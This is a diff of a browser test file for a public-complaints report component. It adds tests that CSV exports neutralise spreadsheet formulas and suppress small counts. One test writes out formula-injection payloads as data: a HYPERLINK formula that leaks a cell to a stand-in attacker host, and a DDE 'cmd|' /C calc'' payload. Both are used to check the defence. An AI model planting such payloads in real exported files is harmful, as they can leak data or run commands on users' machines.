@@ -3,13 +3,15 @@
  * reads that report (one request each) and a change while loading leaves the last one shown; a
  * language change asks nothing; the errors a user may meet (an unknown public body or sector, a
  * year without reports, a network that fails, then "Try again"); the `chikaya-report-loaded`
- * event; every table saved as a CSV file a spreadsheet reads (its exact text, quoting included);
+ * event; every table saved as a CSV file a spreadsheet reads (its exact text, quoting included, no
+ * text it would run as a formula, small counts as `<5`);
  * a report approved by the ministry shows as published; printing: no buttons, one column, black
  * on white whatever the theme.
  */
 import { deepEqual, equal, ok } from '../../../tools/browser/assert.js';
 import { afterEach, describe, it } from '../../../tools/browser/mocha.js';
 import { admin, backOffice, emulateMedia, setViewport } from './commands.js';
+import { csvCell } from '../../src/report/csv.js';
 import { problemResponse, spyOnFetch } from './fetch-spy.js';
 import { activateMedia, emulatesMedia } from './media.js';
 import {
@@ -20,6 +22,7 @@ import {
   catchDownloads,
   collect,
   csv,
+  csvCount,
   download,
   everyMonth,
   expectedCsv,
@@ -350,11 +353,11 @@ describe('<chikaya-report> behaviour', () => {
           classification.columns,
           ...report.classification.map((row, index) => [
             row.serviceCategoryId === 'unclassified' ? classification.rows[index]![0]! : nameOf(report, 'serviceCategories', row.serviceCategoryId, 'fr'),
-            ...kinds.map((kind) => row[kind]),
+            ...kinds.map((kind) => csvCount(row[kind], report)),
           ]),
-          [classification.total![0]!, ...kinds.map((kind) => report.classification.reduce((sum, row) => sum + row[kind], 0))],
+          [classification.total![0]!, ...kinds.map((kind) => report.totals[kind])],
         ]),
-        months: csv([shown('months').columns, ...everyMonth(report).map((row) => [row.month, row.received, row.answered])]),
+        months: csv([shown('months').columns, ...everyMonth(report).map((row) => [row.month, csvCount(row.received, report), csvCount(row.answered, report)])]),
         participation: csv([shown('participation').columns, ...report.participation.map((point) => [point.date, point.agencies])]),
       };
       const category = (id: string, locale: 'fr' | 'en') => nameOf(report, 'serviceCategories', id, locale);
@@ -401,6 +404,58 @@ describe('<chikaya-report> behaviour', () => {
       ok(file.text.includes(line), `the line, quoted:\n${line}\nin:\n${file.text}`);
       equal(file.text, `\uFEFF${expectedCsv(report).measures}`);
     });
+
+    it('a measure whose title and details a spreadsheet would run as formulas is saved as text', async () => {
+      const token = `${isFirefox ? 'firefox' : 'chromium'}-${Math.random().toString(36).slice(2, 8)}`;
+      const measure = {
+        title: `=HYPERLINK("http://attacker.invalid/?leak="&A1,"Voir") ${token}`,
+        description: `@SUM(1+1)*cmd|' /C calc'!A0 (${token})`,
+        serviceId: platform.serviceId,
+        status: 'adopted',
+        date: new Date().toISOString().slice(0, 10),
+      };
+      const recorded = await backOffice<{ id: number }>('POST', '/v1/back-office/measures', measure);
+      equal(recorded.status, 201, `the back office recorded the measure (${JSON.stringify(recorded.body)})`);
+      onCleanup(async () => {
+        await backOffice('DELETE', `/v1/back-office/measures/${recorded.body.id}`);
+      });
+      // The report read by the test before may be in the browser's cache: read it again past it.
+      await fetch(`${platform.url}/v1/reports/agencies/${platform.agencyId}/${thisYear}`, { cache: 'reload' });
+      const reads = recordReports();
+      const downloads = catchDownloads();
+      const element = await mountReport(`scope="agency" agency="${platform.agencyId}" year="${thisYear}" locale="en"`);
+      ok(
+        reads.last().measures.some((item) => item.title === measure.title),
+        'the report lists the new measure',
+      );
+      const file = await download(element, 'measures', downloads);
+      // OWASP: a single quote first, so that the spreadsheet reads text, and the field quoted
+      const line = `"'=HYPERLINK(""http://attacker.invalid/?leak=""&A1,""Voir"") ${token}",Commune du banc d’essai,État civil,Adopted,${measure.date},"'@SUM(1+1)*cmd|' /C calc'!A0 (${token})"\r\n`;
+      ok(file.text.includes(line), `the line, neutralised:\n${line}\nin:\n${file.text}`);
+      equal(file.text, `\uFEFF${expectedCsv(reads.last()).measures}`);
+    });
+
+    it('csvCell: a text starting with =, +, -, @, a tab or a carriage return is text; numbers, negative ones too, stay numbers', () => {
+      deepEqual(
+        ['=1+1', '+33 6 12', '-2+3', '@SUM(A1)', '\t=1', '\r=1', 'a=b', 'x,-1', '<5', "'quoted"].map(csvCell),
+        [`"'=1+1"`, `"'+33 6 12"`, `"'-2+3"`, `"'@SUM(A1)"`, `"'\t=1"`, `"'\r=1"`, 'a=b', '"x,-1"', '<5', "'quoted"],
+      );
+      deepEqual([-3, -0.5, 0, 42, null].map(csvCell), ['-3', '-0.5', '0', '42', '']);
+    });
+
+    it('a suppressed count is saved as <5, with no share, and the totals as they are', async () => {
+      const reads = recordReports();
+      const downloads = catchDownloads();
+      const element = await mountReport(`scope="national" year="${provisionalYear}" locale="en"`);
+      const report = reads.last();
+      const suppressed = report.byRegion.find((row) => row.count === null);
+      ok(suppressed, 'a region with fewer than 5 submissions');
+      const file = await download(element, 'regions', downloads);
+      ok(file.text.includes(`\r\n${nameOf(report, 'regions', suppressed.key, 'en')},<5,\r\n`), `the region's line says <5:\n${file.text}`);
+      const classification = await download(element, 'classification', downloads);
+      const { totals } = report;
+      ok(classification.text.endsWith(`\r\nTotal,${totals.complaint},${totals.observation},${totals.suggestion},${totals.total}\r\n`), classification.text);
+    });
   });
 
   describe('forwarded submissions', () => {
@@ -414,17 +469,26 @@ describe('<chikaya-report> behaviour', () => {
       const reads = recordReports();
       const downloads = catchDownloads();
       const element = await mountReport(`scope="agency" agency="${platform.agencyId}" year="${thisYear}" locale="en"`);
-      const { counts } = reads.last().kpis;
+      const report = reads.last();
+      const { counts } = report.kpis;
       ok(counts.forwardedOut >= 1, 'the platform counts the forward');
       equal(facts(element)['Forwarded to the competent public body'], String(counts.forwardedOut));
       equal(
         text($(element, '.note')),
         `The tables of this report count each submission where it was handled: the ${counts.forwardedOut} forwarded to the competent public body are counted there.`,
       );
-      // the shares of a table that lists every submission it counts add up to 100 %, not less
+      // the tables count what it handled, and their shares are shares of that (a suppressed count has none)
+      const held = counts.received - counts.forwardedOut;
+      equal(report.totals.total, held, 'the totals are what it handled');
       const regions = (await download(element, 'regions', downloads)).text.trim().split('\r\n').slice(1);
+      deepEqual(
+        regions.map((line) => line.split(',').at(-1)),
+        report.byRegion.map((row) => (row.count === null ? '' : String(Math.round((row.count / held) * 1000) / 10))),
+        'each region’s share of what it handled',
+      );
       const shares = regions.map((line) => Number(line.split(',').at(-1)));
-      ok(Math.abs(shares.reduce((sum, share) => sum + share, 0) - 100) < 0.5, `the regions' shares add up to 100 (${shares.join(' + ')})`);
+      if (report.byRegion.every((row) => row.count !== null))
+        ok(Math.abs(shares.reduce((sum, share) => sum + share, 0) - 100) < 0.5, `the regions' shares add up to 100 (${shares.join(' + ')})`);
     });
   });
 
